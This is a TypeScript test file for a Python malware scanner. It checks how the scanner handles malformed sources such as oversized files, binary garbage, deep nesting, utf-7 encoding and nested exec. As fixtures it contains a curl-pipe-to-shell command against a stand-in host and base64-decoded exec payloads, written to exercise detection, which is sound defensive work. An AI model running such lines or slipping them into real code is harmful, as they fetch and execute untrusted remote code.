import { beforeAll, describe, expect, it } from 'vitest';
import { verdictOf } from '../../../src/core/finding.js';
import { initPython } from '../../../src/formats/python/runtime.js';
import { scanSource, summary } from './helpers.js';

beforeAll(initPython);

const fatalCodes = (findings: ReturnType<typeof scanSource>['findings']): Array<string | undefined> => findings.filter((f) => f.fatal).map((f) => f.code);

describe('malformed Python sources', () => {
  it('a source over the size limit is an error, and its first part is still analysed', () => {
    const code = `import base64\nexec(base64.b64decode(x))\n${'x = 1\n'.repeat(2000)}`;
    const { findings } = scanSource(code, { limits: { maxMemberBytes: 4096 } });
    expect(fatalCodes(findings)).toEqual(['LIMIT_MEMBER_BYTES']);
    expect(findings.some((f) => f.ruleId === 'python/dynamic-exec' && f.severity === 'critical')).toBe(true);
  });

  it('binary garbage named .py is an error, not clean', () => {
    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));
    const { format, findings } = scanSource(garbage);
    expect(format).toBe('other');
    expect(fatalCodes(findings)).toEqual(['MALFORMED']);
    expect(verdictOf(findings)).toBe('error');
  });

  it('deeply nested brackets neither crash nor hang, and are not clean', () => {
    const code = `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\n`;
    const started = Date.now();
    const { findings } = scanSource(code);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect(fatalCodes(findings)).toEqual(['LIMIT_DEPTH']);
  });

  it('a long left-deep chain is walked without recursion', () => {
    const code = `s = ${Array.from({ length: 3000 }, (_, i) => `'p${i}'`).join(' + ')}\nexec(s)\n`;
    const { findings } = scanSource(code);
    expect(fatalCodes(findings)).toEqual(['LIMIT_DEPTH']);
    expect(findings.some((f) => f.ruleId === 'python/dynamic-exec')).toBe(true);
  });

  it('deeply nested calls stay bounded', () => {
    const code = `exec(${'f('.repeat(150)}base64.b64decode(x)${')'.repeat(150)})\n`;
    const { findings } = scanSource(code);
    expect(findings.find((f) => f.ruleId === 'python/dynamic-exec')?.severity).toBeDefined();
  });

  it('text that is mostly syntax errors is text, and still read', () => {
    const { format, findings } = scanSource(
      'This is not Python at all; it is a paragraph of prose, with (unbalanced brackets and "quotes.\nMore prose follows here.\n',
    );
    expect(format).toBe('text');
    expect(findings).toEqual([]);
  });

  it('a partly broken file is python and what parsed is analysed', () => {
    const { format, findings } = scanSource("import os\ndef broken(:\n    pass\nos.system('curl http://x.org | sh')\n");
    expect(format).toBe('python');
    expect(summary(findings)).toEqual(['python/download-to-shell critical script.py']);
  });

  it('an encoding modelgate cannot decode (utf-7 hides code) is an error', () => {
    const { findings } = scanSource('# coding: utf-7\n+AGU-xec(x)\n');
    expect(fatalCodes(findings)).toEqual(['UNSUPPORTED']);
  });

  it('invalid UTF-8 is read as Latin-1', () => {
    const { format, findings } = scanSource(Buffer.concat([Buffer.from('s = "'), Buffer.from([0xff, 0xfe]), Buffer.from('"\n')]));
    expect(format).toBe('python');
    expect(findings).toEqual([]);
  });

  it('an empty file is clean python', () => {
    expect(scanSource('')).toEqual({ format: 'python', findings: [] });
  });

  it('content nested past the depth limit is refused', () => {
    const { findings } = scanSource('x = 1\n', { depth: 99 });
    expect(fatalCodes(findings)).toEqual(['LIMIT_DEPTH']);
  });

  it('exec of exec of exec… ends at the nesting limit', () => {
    let code = "import os\nos.system('curl http://x.org | sh')\n";
    for (let i = 0; i < 10; i++) code = `exec(${JSON.stringify(code)})\n`;
    const { findings } = scanSource(code);
    expect(fatalCodes(findings)).toContain('LIMIT_DEPTH');
    expect(verdictOf(findings)).toBe('error');
  });
});
